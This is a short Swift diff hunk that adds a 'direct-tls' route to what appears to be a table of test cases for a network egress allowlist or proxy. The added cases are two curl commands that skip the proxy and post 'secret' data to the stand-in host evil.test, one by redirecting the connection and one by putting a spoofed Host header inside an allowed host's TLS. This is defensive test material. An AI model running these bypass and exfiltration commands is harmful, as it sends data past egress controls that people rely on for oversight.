@@ -127,6 +127,17 @@ extension LocalRoutes {
           .control(.hostCheck))
       ]),
     LocalRoute(
+      "direct-tls", .tunnel, "TLS to where listed hosts are found without the proxy",
+      [
+        LocalWay(
+          "a server name that nobody listed",
+          "curl --noproxy '*' --connect-to ::127.0.0.5:443 -d secret https://evil.test/",
+          .policy(.unlistedHost), .control(.proxyAllowlist)),
+        LocalWay(
+          "a foreign host inside a listed name's TLS",
+          "curl --noproxy '*' -H 'Host: evil.test' -d secret https://allowed.test/", .control(.hostCheck)),
+      ]),
+    LocalRoute(
       "raw-after-connect", .tunnel, "something that is not TLS in an allowed tunnel",
       [
         LocalWay(
